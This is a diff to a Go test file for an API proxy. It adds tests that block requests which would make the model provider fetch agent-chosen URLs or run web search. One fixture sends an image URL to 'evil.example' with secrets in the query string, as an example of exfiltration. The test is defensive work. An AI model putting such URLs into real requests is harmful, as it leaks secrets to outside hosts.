@@ -105,6 +105,9 @@ func TestPhantomIsSwapped(t *testing.T) {
 	}
 }
 
+// byURL makes the provider ask a host that the agent chose.
+const byURL = `{"model":"` + testName + `","max_tokens":10,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?secrets"}}]}]}`
+
 // TestRefused lists what does not go upstream at all.
 func TestRefused(t *testing.T) {
 	reached := false
@@ -144,6 +147,9 @@ func TestRefused(t *testing.T) {
 		{"packed", "POST", "/anthropic/v1/messages", good, []string{"Content-Encoding", "gzip"}, 400, CodeBadRequest},
 		{"a form", "POST", "/anthropic/v1/messages", good, []string{"Content-Type", "multipart/form-data"}, 400, CodeBadRequest},
 		{"no type", "POST", "/anthropic/v1/messages", good, []string{"Content-Type", ""}, 400, CodeBadRequest},
+		{"content by its URL", "POST", "/anthropic/v1/messages", byURL, nil, 403, CodeProviderFetch},
+		{"content by its URL, to be counted", "POST", "/anthropic/v1/messages/count_tokens", byURL, nil, 403, CodeProviderFetch},
+		{"search at the provider", "POST", "/anthropic/v1/messages", `{"max_tokens":1,"messages":[],"model":"` + testName + `","tools":[{"type":"web_search_20250305","name":"web_search","max_uses":1}]}`, nil, 403, CodeProviderFetch},
 		{"unknown model", "POST", "/anthropic/v1/messages", message("claude-of-tomorrow", 10), nil, 403, CodeUnknownModel},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
@@ -286,5 +292,13 @@ func TestQuotedCredential(t *testing.T) {
 		if e := r.event(t); e.Code != CodeMasked {
 			t.Errorf("%s: event %+v", ask[1], e)
 		}
+	}
+}
+
+// TestProviderMayFetch when the user says so.
+func TestProviderMayFetch(t *testing.T) {
+	r := start(t, says(200, answer(1, 1)), budget.Caps{}, func(c *Config) { c.ProviderMayFetch = true })
+	if resp, body := r.ask(t, "POST", "/anthropic/v1/messages", byURL); resp.StatusCode != 200 {
+		t.Errorf("answer %s %q", resp.Status, body)
 	}
 }
